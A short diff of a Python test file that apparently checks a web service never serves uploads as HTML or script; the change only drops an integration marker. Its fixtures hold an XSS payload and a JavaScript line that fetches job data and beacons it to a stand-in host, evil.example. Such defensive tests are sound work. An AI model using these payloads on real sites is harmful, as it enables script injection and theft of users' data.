@@ -17,7 +17,6 @@ from tests.matting_core.images import encode
 from tests.web.test_api import error_of, post_job, small_jpeg, wait_done
 from web import sniff
 
-pytestmark = pytest.mark.integration
 SCRIPT = b'<script src="1?variant=input"></script><html><body onload="alert(document.domain)">'
 NOTES_JS = b"fetch('/api/v1/jobs').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))"
 NEVER = ("text/html", "image/svg+xml", "application/xhtml+xml", "text/javascript", "application/javascript",
